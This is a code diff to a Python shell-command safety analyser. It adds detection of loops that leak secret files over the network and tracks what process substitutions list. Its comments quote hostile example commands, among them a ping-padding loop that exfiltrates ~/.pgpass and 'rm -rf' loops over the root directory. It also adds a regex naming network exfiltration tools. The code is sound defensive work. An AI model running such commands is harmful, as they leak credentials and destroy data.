@@ -380,6 +380,7 @@ class _Walker:
         "functions",
         "out_substs",
         "pos",
+        "psub_listing",
         "psub_stdin",
         "scope",
         "toggles",
@@ -401,6 +402,9 @@ class _Walker:
         # ran, so those substitutions wait in `out_substs`; `tee >(sh)` passes its stdin.
         self.psub_stdin: Stdin | None = None
         self.out_substs: list[Node] | None = None
+        # `done < <(ls -d /*)`: what the last input process substitution listed (paths), so a
+        # `while read` loop fed by it ranges over them as it does when piped (safety-m7).
+        self.psub_listing: Info | None = None
 
     # -- errors --------------------------------------------------------------------------
 
@@ -502,6 +506,8 @@ class _Walker:
             return self.error_region(node)
         if t in ("while_statement", "c_style_for_statement"):
             self._endless_spawner(node)
+        if t == "while_statement" and stdin.secret:
+            self._secret_loop(node)
         if t == "while_statement" and (stdin.paths or stdin.kind == STDIN_STATIC):
             return self._read_loop(node, stdin)
         # if/while/case/negation/test: every part may run.
@@ -509,6 +515,28 @@ class _Walker:
         for c in node.named_children:
             info = self.stmt(c)
         return info
+
+    def _secret_loop(self, node: Node) -> None:
+        """`od -tx1 ~/.pgpass | while read -r h; do ping -p "$h" HOST; done`: each line of a
+        secret is read into a variable the body hands to a network tool (packet padding, a
+        name looked up, a URL): exfiltration, critical (safety-m7)."""
+        cond = node.child_by_field_name("condition")
+        body = node.child_by_field_name("body")
+        if cond is None or body is None or _command_name_of(cond) != "read":
+            return
+        args = [_text(a) for a in cond.children_by_field_name("argument")]
+        names_ = [a for a in args if not a.startswith("-")] or ["REPLY"]
+        text = _text(body)
+        uses = any(re.search(r"\$\{?" + re.escape(n) + r"\b", text) for n in names_)
+        if uses and _NETWORK_TOOL.search(text):
+            start, end = self.pos.char(node.start_byte), self.pos.char(node.end_byte)
+            self.scope.add(
+                RiskLevel.CRITICAL,
+                "exfiltration",
+                "sends each line of a secret to the network (a loop over a key or password file)",
+                start,
+                end,
+            )
 
     def _read_loop(self, node: Node, stdin: Stdin) -> Info:
         """`ls / | while read d; do rm -rf "/$d"; done`: the loop variable takes what the
@@ -917,6 +945,11 @@ class _Walker:
                 return Stdin(STDIN_STATIC, target, -1, decoded=dest[0].origin == "decoded"), []
             if target == "/dev/null":
                 return Stdin(STDIN_STATIC, ""), []  # reads nothing
+            listing = self.psub_listing
+            if dest[0].origin == ORIGIN_SUBST and listing is not None and listing.paths:
+                # `while read d; do …; done < <(ls -d /*)`: reads what the listing printed.
+                self.psub_listing = None
+                return dispatch.next_stdin(listing, NO_STDIN), []
             return Stdin(STDIN_FILE, secret=is_secret(target)), []
         if target.isdigit() or target == "-":
             return None, []
@@ -1791,6 +1824,7 @@ class _Walker:
             if out is not None and not info.network_fetch:
                 # `source <(echo 'rm -rf /')`: the "file" holds known text.
                 return out.text, True, False, "decoded" if out.decoded else "static"
+            self.psub_listing = info if info.paths else None
             return "/dev/fd/63", True, False, ORIGIN_NETWORK if info.network_fetch else ORIGIN_SUBST
         if t == "arithmetic_expansion":
             self._arithmetic(node)
@@ -2263,6 +2297,13 @@ def _normal_dir(path: str) -> str:
         rest = posixpath.normpath("/" + path[2:]) if len(path) > 1 else "/"
         return "~" if rest == "/" else "~" + rest
     return path
+
+
+_NETWORK_TOOL = re.compile(
+    r"(?:^|[\s;|&(])(?:ping6?|hping3|nping|dig|nslookup|host|drill|delv|curl|wget|nc|ncat|netcat"
+    r"|socat|traceroute6?|tracepath|mtr|whois|telnet|ssh|scp|openssl|resolvectl|getent\s+hosts)"
+    r"(?=\s)"
+)
 
 
 def _command_name_of(node: Node | None) -> str:
